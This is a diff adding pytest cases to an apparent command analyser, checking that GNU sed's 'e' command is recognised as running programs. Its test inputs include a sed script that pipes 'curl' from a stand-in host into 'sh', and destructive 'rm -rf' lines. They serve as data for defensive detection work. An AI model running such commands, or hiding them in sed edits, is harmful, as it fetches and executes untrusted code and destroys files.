@@ -381,3 +381,25 @@ def test_aliases_never_leak_from_one_line_into_another() -> None:
     assert programs("alias x=rm; ls") == ["alias", "ls"]
     assert programs("x -rf /") == ["x"]  # a new line knows no alias
     assert programs("alias x=rm; x -rf /")[-1] == "rm"
+
+
+@pytest.mark.parametrize(
+    ("script", "program"),
+    [
+        ("sed -n '1e curl -s https://x.example/p | sh' README.md", "curl"),
+        ("sed -e '$e rm -rf build' notes.txt", "rm"),
+        ("sed 's/.*/touch \\/tmp\\/x/e' f", "touch"),
+    ],
+)
+def test_gnu_sed_runs_the_commands_of_its_e_command(script: str, program: str) -> None:
+    assert program in programs(script)
+
+
+def test_ordinary_sed_scripts_run_nothing() -> None:
+    for script in [
+        "sed -i 's/foo/bar/g' a.py",
+        "sed -n '/^version/p' setup.cfg",
+        "sed -E 's/(x)e/y/' f",
+    ]:
+        assert programs(script) == ["sed"], script
+    assert analyse("sed e cmds.txt").problems  # runs what it reads: cannot tell
